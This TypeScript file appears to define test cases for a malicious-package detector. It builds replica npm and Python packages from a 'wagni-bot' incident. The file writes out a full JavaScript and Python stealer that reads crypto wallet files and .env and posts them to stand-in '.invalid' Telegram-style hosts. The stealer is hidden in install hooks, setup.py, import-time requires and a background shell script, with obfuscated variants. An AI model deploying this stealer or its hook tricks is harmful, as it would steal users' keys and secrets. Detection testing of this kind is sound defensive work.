import { casesOf, type Facts } from '../case';
import { charCodes, renamedLocals } from '../disguise/javascript';
import { execZlib } from '../disguise/python';
import { npm, sdistOf } from '../packages';

/** The same bytes under every name. */
const stealer = (host: string, bot: string) => String.raw`
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const home = os.homedir();
const places = [
  '.config/solana/id.json',
  '.ethereum/keystore',
  '.foundry/keystores',
  '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
  'AppData/Roaming/Exodus/exodus.wallet',
  '.env',
];
function read(place) {
  const full = path.join(home, place);
  if (fs.statSync(full).isDirectory()) return fs.readdirSync(full).map((name) => fs.readFileSync(path.join(full, name), 'latin1'));
  return [fs.readFileSync(full, 'latin1')];
}
const loot = {};
for (const place of places) {
  try { loot[place] = read(place); } catch (absent) {}
}
const text = JSON.stringify({ chat_id: '${bot}', text: JSON.stringify(loot).slice(0, 4000) });
const request = https.request({ hostname: '${host}', path: '/bot0000000000:INERT/sendMessage', method: 'POST', headers: { 'content-type': 'application/json' } });
request.on('error', () => {});
request.end(text);
`;

const inPython = `import json, os, pathlib, urllib.request
home = pathlib.Path.home()
loot = {}
for place in (".config/solana/id.json", ".foundry/keystores", ".env"):
    try:
        target = home / place
        files = [target] if target.is_file() else list(target.iterdir())
        loot[place] = [each.read_text() for each in files]
    except OSError:
        pass
try:
    body = json.dumps({"chat_id": "@wagni_bot", "text": json.dumps(loot)}).encode()
    urllib.request.urlopen(urllib.request.Request("https://tele-gram-api.invalid/bot0000000000:INERT/sendMessage", body, {"Content-Type": "application/json"}), timeout=5)
except Exception:
    pass
`;

const FACTS: Facts = {
  now: '2026-08-11T12:00:00Z',
  publishedAt: '2026-08-11T11:52:00Z',
  firstPublishedAt: '2026-08-11T11:52:00Z',
  publisher: 'fresh-account',
  weeklyDownloads: 0,
};
const HOST = 'tele-gram-api.invalid';

export const wagniBot = casesOf({
  id: 'wagni-bot',
  incident: 'wagni-bot',
  kind: 'install-hook',
  seen: 'a new name with a hook whose errors are swallowed, which sends wallets to a bot; the same bytes appear under many names',
  replica: {
    sample: npm('defi-swap-router', '1.0.0', {
      about: 'Swaps.',
      manifest: { scripts: { postinstall: 'node install.js || true' } },
      files: { 'install.js': stealer(HOST, '@wagni_bot') },
    }),
    facts: FACTS,
  },
  renamed: {
    seen: 'the same stealer in a hook of another new name, published minutes later',
    sample: npm('yield-vault-math', '1.0.0', {
      about: 'Interest of vaults.',
      manifest: { scripts: { preinstall: 'node scripts/check.js 2>/dev/null || exit 0' } },
      files: { 'scripts/check.js': renamedLocals(stealer('bot-api.invalid', '-100200300'), 'yield') },
    }),
    facts: FACTS,
  },
  reObfuscated: {
    sample: npm('defi-swap-router', '1.0.1', {
      about: 'Swaps.',
      manifest: { scripts: { postinstall: 'node install.js || true' } },
      files: { 'install.js': charCodes(stealer(HOST, '@wagni_bot'), 'defi') },
    }),
    facts: FACTS,
  },
  otherStage: {
    kind: 'setup-py',
    seen: 'the same stealer in setup.py of the other ecosystem',
    sample: sdistOf('defi-swap-router', '1.0.2', {
      about: 'Swaps.',
      setup: (honest) => execZlib(inPython) + honest,
    }),
    facts: FACTS,
  },
});

/** The same file, byte for byte, under two unrelated names: what only a comparison over packages shows. */
export const namesquats = casesOf({
  id: 'wagni-bot-twin',
  incident: 'wagni-bot',
  kind: 'import-time',
  seen: 'an entry loads the stealer, byte for byte the file of another package',
  replica: npm('lending-pool-abi', '1.0.0', {
    about: 'Interfaces of pools.',
    index: (honest) => `${honest}\ntry {\n  require('./install.js');\n} catch (ignored) {}\n`,
    files: { 'install.js': stealer(HOST, '@wagni_bot') },
  }),
  renamed: npm('perp-funding-rates', '1.0.0', {
    about: 'Rates.',
    index: (honest) => `${honest}\nrequire('./lib/rates-cache');\n`,
    files: { 'lib/rates-cache.js': renamedLocals(stealer('bot-gateway.invalid', '-100777'), 'perp') },
  }),
  reObfuscated: npm('lending-pool-abi', '1.0.1', {
    about: 'Interfaces of pools.',
    index: (honest) => `${honest}\n${charCodes(stealer(HOST, '@wagni_bot'), 'lending')}\n`,
  }),
  otherStage: {
    kind: 'install-hook',
    seen: 'the stealer as a hook that a shell starts in the background',
    sample: npm('lending-pool-abi', '1.0.2', {
      about: 'Interfaces of pools.',
      manifest: { scripts: { install: 'sh ./setup.sh' } },
      files: {
        'setup.sh': '#!/bin/sh\nnohup node ./install.js >/dev/null 2>&1 &\nexit 0\n',
        'install.js': stealer(HOST, '@wagni_bot'),
      },
    }),
  },
});
